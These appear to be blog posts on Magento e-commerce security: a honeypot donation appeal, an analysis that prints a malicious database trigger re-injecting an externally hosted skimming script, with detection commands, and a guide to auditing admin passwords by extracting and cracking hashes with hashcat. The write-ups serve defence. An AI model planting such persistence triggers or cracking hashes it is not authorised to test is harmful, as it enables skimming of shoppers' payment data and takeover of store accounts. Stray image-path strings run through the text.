As e-commerce crime becomes more sophisticated, itbecomes harder to track new attack methods. Currently, new techniques are discovered like this:

  1. Consumer sees unauthorized payment, calls bank
  2. Bank gets lots of complaints, identifies common denominator, calls the likely compromised merchant
  3. Merchant asks agency or ISP to launch security investigation
  4. Technician sifts through millions of log entries
  5. Technician curses, finds hack entry point and identifies new attack method

Doesn’t sound very efficient, right?

Getting ahead of fraud

Holy grail: identify new attacks before they can do any damage. This would be a whole lot easier if we could filter out legitimate traffic.

One approach is to set up a new (fake) store that doesn’t have any real customers (aka a honeypot). However, apart from the work involved with creating a realistic looking store, it has a major disadvantage: it lacks credibility. It is not included in any search engine result or in any list that circulates among fraudsters. And criminals browsing the site will quickly see that it is fake. So the chances of actual hack attempts are slim.

The best approach would be to use a real store without real customers. One that has been around for a while but has gone out of business. This store likely sees hack attempts on a daily basis and is included in lists of target e-commerce sites that are sold on the dark web. Apart from search engine traffic, any other traffic is likely suspect. This wouldtremendously reduce the analysis effort.

How does it work

We would copy your template (just the looks, not any code. history or data!) and point your domain name to a special equipped server.

Then, all the requests to authorized endpoints (such as the backend panel) will be logged. As these endpoints are not in use anymore, any traffic to them is highly suspicious and will be investigated. If a source IP sends requests beyond a certain threshold, it will get added to a list of known hack networks. Other stores can use this list to block access to their stores. And when new attack methods are discovered, they will be published and proper protection can be made.

Please contribute

If you plan to let your store domain name expire, please donate it instead. With your help, we can:

  1. Find new botnet IPs of criminal gangs
  2. Monitor and discover new attack methods
  3. Proactively protect e-commerce

Get in touch!

Self-healing malware discoveredRegular Javascript-based malware is normally injected in the static header or footer HTML definitions in the database. Cleaning these records used to be sufficient to get rid of the malware. But not anymore: this week a new malware pattern surfaced. Once deleted, it uses a clever database trigger to restore itself.

The pattern was discovered by Jeroen Boersma (excellent detective job!). He found the following database trigger (edited for readability):

TRIGGER `after_insert_order`
AFTER INSERT ON `sales_flat_order` FOR EACH ROW
    UPDATE core_config_data
    SET value = IF(
        value LIKE '%<script src="https://mage-storage.pw/cdn/flexible-min.js"></script>%',
        CONCAT(value, ' <script src="https://mage-storage.pw/cdn/flexible-min.js"></script>')
    WHERE path='design/head/includes'
        OR path='design/footer/absolute_footer'
        OR path='design/footer/copyright';\

    UPDATE cms_block
    SET content= IF(
        content LIKE '%<script src="https://mage-storage.pw/cdn/flexible-min.js"></script>%',
        CONCAT(content, ' <script src="https://mage-storage.pw/cdn/flexible-min.js"></script>')

The trigger is executed every time a new order is made. The query checks for the existence of the malware in the header, footer, copyright and every CMS block. If absent, it will re-add itself.This discovery shows we have entered a new phase of malware evolution. Just scanning files is not enough anymore, malware detection methods should now include database analysis.

Check your own database

Do you have persistent malware hidden in your database?

echo 'SHOW TRIGGERS' | n98-magerun db:console

NB. Magento Enterprise and some community extensions contain legitimate triggers. So if you find triggers, look for suspicious SQL code, such as anything containing admin, .js, script or < (html tags).

If you find a malicious trigger, you can delete it like this:

echo "DROP TRIGGER <trigger_name>" | n98-magerun db:console

Attack context

For future reference: the entry vector for this malware was a brute force attack on /rss/catalog/notifystock/ for an otherwise completely patched shop.

New signatures

Both Magereport and my Malware Scanner have been updated with the new patterns.

Cracking Magento passwords for $1

hashcat logo

TL;DR: Find weak passwords on your Magento stores before the bad guys do. If you spend some serious money ($1) on high-performance computing power, you can find easily guessable passwords. Here’s - step by step - how you can check your stores for vulnerable admin accounts.

A password guessing attack (aka “brute force”) has become the most successful attack vector recently. Hackers try zillions of passwords on authenticated pages (/admin, /downloader, /rss) until they hit the jackpot.

Now, you (the admin) can easily find weak passwords, because you have a majoradvantage over remote attackers: speed. Potential hackers test passwords over HTTP, which is relatively slow. With a botnet and fast servers, at best (worst) they can try a few hundred passwords per second per store. You, on the other hand, have direct database access. With the proper setup (read on!) you can test 4 billion passwords per second.

What is password hashing?

When big companies are hacked, they always say your password is safe because it was stored in an unreadable manner.

What they actually mean is that they stored a hash of your password. Hashing is a one-way algorithm to translate some data (your password) into a unique code. Say, you have password qwerty123. The MD5 hash for this password is 3fc0a7acf087f549ac2b266baf94b8b1. It is not possible to revert this. However, nothing stops you from hashing random passwords and see if they match3fc0a7acf087f549ac2b266baf94b8b1. You would only have to try enough combinations, starting with aaaaaaaa, then all the way to ZZZZZZZZ (and beyond).

The MD5 method is not a very safe hash, because it is unbelievably fast. A 5-year old PC cancompute about 70 megahashes (MH) per second. And a juicy videocard can do 4500 MH per second.

Get the machinery in place

Magento 1 CE uses the fast MD5 hash to store admin passwords. To find weak ones, you need:

Amazon released their P2 GPU servers recently, to jump on the machine learning money wagon. P2 servers happen to be also really good at hashing. Equipped with Nvidia’s Tesla K80 cards, those servers are nothing but hash grinding beasts. The smallest P2 server is still pricey, but for $1, you may tame it for a whole hour.

Boot a p2.xlarge with Amazon EC2. Root disk 8GB is ok. Pick Ubuntu 16.04 AMI. Download keyfile (pem). Run these commands in terminal.Extract hashes from your Magento stores

Almost ready to start cracking: you just need the password hashes. If you have magerun, you can do this (run on your Magento server):

n98-magerun db:query "select concat(username,':',password) from admin_user where is_active=1" | tail -n +3 | tee maghashes.txt

Now, maghashes.txt contains lines with username:hash:salt like this:


Copy this file to your hash grinder and start the magic:

scp maghashes.txt ubuntu@<AWS-IP>:/data

# back to your AWS terminal
cd /data/hashcat
./hc -m20 --username -r rules/best64.rule ../maghashes.txt ../phpbb.txt

The One Dollar Challenge

Show all the guessed passwords:./hc --show --username -m20 ../maghashes.txt

In practice, 10-15% of the admin passwords appears easily guesseable. This is more than I expected. Notable cases are test/test123 and admin/123.Magento 2 forces strong passwords by default, but for anyone stillrunning M1, it’s a good idea to give your admin passwords a boost.MD54,231,000 hashes/secPHP’s password_hash()53 hashes/sec